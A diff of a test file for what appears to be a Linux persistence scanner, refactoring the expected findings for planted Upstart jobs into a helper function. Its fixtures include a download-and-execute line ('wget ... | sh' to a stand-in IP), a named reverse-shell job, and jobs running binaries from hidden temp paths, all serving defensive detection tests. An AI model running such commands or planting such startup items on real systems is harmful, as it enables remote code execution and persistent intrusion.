@@ -175,25 +175,28 @@ def test_a_script_reached_through_init_d_and_rc_d_init_d_is_read_once(rhel6, rul
 
 # ---- what is found ------------------------------------------------------------------------------
 
+
 # name: (layout, files planted, the findings expected: (rule, location, path, line))
+def unpackaged_job(path: str, line: int, *kinds: str) -> set[tuple[str, str, str, int | None]]:
+    """The findings of an Upstart job no package owns whose ``line`` runs something each of ``kinds``
+    calls suspicious."""
+    return {
+        *((kind, "upstart_job", path, line) for kind in kinds),
+        ("unpackaged-startup-runs-suspicious", "upstart_job", path, line),
+        ("unpackaged-startup-item", "upstart_job", path, None),
+    }
+
+
 CASES = {
     "upstart_job_respawning_a_reverse_shell": (
         "rhel6",
         {"/etc/init/sysmon.conf": REVERSE_SHELL_JOB, **NCAT},
-        {
-            ("reverse-shell", "upstart_job", "/etc/init/sysmon.conf", 5),
-            ("unpackaged-startup-runs-suspicious", "upstart_job", "/etc/init/sysmon.conf", 5),
-            ("unpackaged-startup-item", "upstart_job", "/etc/init/sysmon.conf", None),
-        },
+        unpackaged_job("/etc/init/sysmon.conf", 5, "reverse-shell"),
     ),
     "upstart_job_disabled_by_manual_is_still_there": (
         "rhel6",
         {"/etc/init/sysmon.conf": REVERSE_SHELL_JOB, "/etc/init/sysmon.override": "manual\n", **NCAT},
-        {
-            ("reverse-shell", "upstart_job", "/etc/init/sysmon.conf", 5),
-            ("unpackaged-startup-runs-suspicious", "upstart_job", "/etc/init/sysmon.conf", 5),
-            ("unpackaged-startup-item", "upstart_job", "/etc/init/sysmon.conf", None),
-        },
+        unpackaged_job("/etc/init/sysmon.conf", 5, "reverse-shell"),
     ),
     "upstart_script_block_downloads_and_runs": (
         "rhel6",
@@ -201,20 +204,12 @@ CASES = {
             "/etc/init/yum-helper.conf": "start on stopped rc RUNLEVEL=[2345]\ntask\nscript\n  sleep 60\n"
             "  # the latest helper\n  wget -q -O- http://198.51.100.9/h.sh | sh\nend script\n"
         },
-        {
-            ("download-execute", "upstart_job", "/etc/init/yum-helper.conf", 6),
-            ("unpackaged-startup-runs-suspicious", "upstart_job", "/etc/init/yum-helper.conf", 6),
-            ("unpackaged-startup-item", "upstart_job", "/etc/init/yum-helper.conf", None),
-        },
+        unpackaged_job("/etc/init/yum-helper.conf", 6, "download-execute"),
     ),
     "override_replaces_a_packaged_jobs_exec": (
         "rhel6",
         {"/etc/init/tty.override": "exec /usr/bin/.mingetty $TTY\n", "/usr/bin/.mingetty": (PROGRAM, 0o755)},
-        {
-            ("exec-hidden-path", "upstart_job", "/etc/init/tty.override", 1),
-            ("unpackaged-startup-runs-suspicious", "upstart_job", "/etc/init/tty.override", 1),
-            ("unpackaged-startup-item", "upstart_job", "/etc/init/tty.override", None),
-        },
+        unpackaged_job("/etc/init/tty.override", 1, "exec-hidden-path"),
     ),
     "pre_start_of_a_planted_job_runs_from_dev_shm": (
         "rhel6",
@@ -222,13 +217,9 @@ CASES = {
             "/etc/init/udev-settle.conf": "start on startup\npre-start exec /dev/shm/.x/m -B\n"
             "exec /sbin/mingetty tty9\n"
         },
-        {
-            ("exec-temp-dir", "upstart_job", "/etc/init/udev-settle.conf", 2),
-            ("exec-hidden-path", "upstart_job", "/etc/init/udev-settle.conf", 2),
-            ("known-indicator-path", "upstart_job", "/etc/init/udev-settle.conf", 2),
-            ("unpackaged-startup-runs-suspicious", "upstart_job", "/etc/init/udev-settle.conf", 2),
-            ("unpackaged-startup-item", "upstart_job", "/etc/init/udev-settle.conf", None),
-        },
+        unpackaged_job(
+            "/etc/init/udev-settle.conf", 2, "exec-temp-dir", "exec-hidden-path", "known-indicator-path"
+        ),
     ),
     "unowned_init_script_started_in_runlevel_3": (
         "rhel6",
@@ -291,20 +282,8 @@ CASES = {
             # An override with no job of its own defines nothing: Upstart ignores it.
             "/etc/init/orphan.override": "exec /tmp/.m/run\n",
         },
-        {
-            ("reverse-shell", "upstart_job", "/home/alice/.config/upstart/indicator.conf", 2),
-            (
-                "unpackaged-startup-runs-suspicious",
-                "upstart_job",
-                "/home/alice/.config/upstart/indicator.conf",
-                2,
-            ),
-            ("unpackaged-startup-item", "upstart_job", "/home/alice/.config/upstart/indicator.conf", None),
-            ("exec-temp-dir", "upstart_job", "/etc/init/metrics.conf", 3),
-            ("exec-hidden-path", "upstart_job", "/etc/init/metrics.conf", 3),
-            ("unpackaged-startup-runs-suspicious", "upstart_job", "/etc/init/metrics.conf", 3),
-            ("unpackaged-startup-item", "upstart_job", "/etc/init/metrics.conf", None),
-        },
+        unpackaged_job("/home/alice/.config/upstart/indicator.conf", 2, "reverse-shell")
+        | unpackaged_job("/etc/init/metrics.conf", 3, "exec-temp-dir", "exec-hidden-path"),
     ),
     "rhel6_rc_local_opens_a_reverse_shell": (
         "rhel6",
